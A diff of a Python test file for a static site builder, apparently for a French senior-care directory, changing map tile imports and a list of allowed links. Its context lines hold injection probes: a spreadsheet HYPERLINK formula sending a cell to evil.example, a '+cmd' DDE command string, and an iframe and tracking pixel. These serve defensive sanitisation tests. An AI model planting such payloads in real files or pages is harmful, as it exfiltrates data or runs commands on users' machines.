@@ -25,12 +25,12 @@ import site_builder.validate  # noqa: F401 - imports every kind, so every schema
 from site_builder.cli import main
 from site_builder.kinds.cost_scale import OVERRIDE as OVERRIDE_SCALE
 from site_builder.kinds.cost_scale import SHIPPED as SHIPPED_SCALE
-from site_builder.render.maps import TILES
+from site_builder.render.maps import TILE_PROVIDERS
 from site_builder.schema import Schema, text, text_list
 from site_builder.validate import load_model
 
 SITE_URL = "https://cls.exemple.fr/"
-TILE_HOST = TILES.split("{", 1)[0]
+TILE_HOST = TILE_PROVIDERS["osm"].url.split("{", 1)[0]
 # Starts of a spreadsheet formula, a CDN address, C1 and escape controls (stripped), a shortcode of each kind.
 PREFIXES = ['=HYPERLINK("https://evil.example/?"&A1;"clic") ', "+cmd|' /C calc'!A0 ", "-2+3 ", "@SUM(A1:A9) ", ""]
 EXTRA = (" :smile: :material-phone: ![pixel](https://tracker.example/p.gif) <iframe src=https://evil.example/>"
@@ -286,7 +286,8 @@ def data_links(data: Path) -> set[str]:
 # Links written in the code, the same on every site: the maps' attribution, the national senior portal.
 CHROME_LINKS = ("https://www.openstreetmap.org/copyright", "https://leafletjs.com",
                 "https://www.pour-les-personnes-agees.gouv.fr/",
-                "https://www.openstreetmap.org/directions?route=", "geo:")  # a fiche's itinerary: coordinates, not text
+                "https://www.openstreetmap.org/directions?route=", "geo:",  # a fiche's itinerary: coordinates, not text
+                "https://www.openstreetmap.org/?mlat=")  # a map's place, for a browser without JavaScript
 
 
 def test_links_go_only_to_the_site_and_the_datas_own_links(corpus: tuple[Path, Path, set[str]]) -> None:
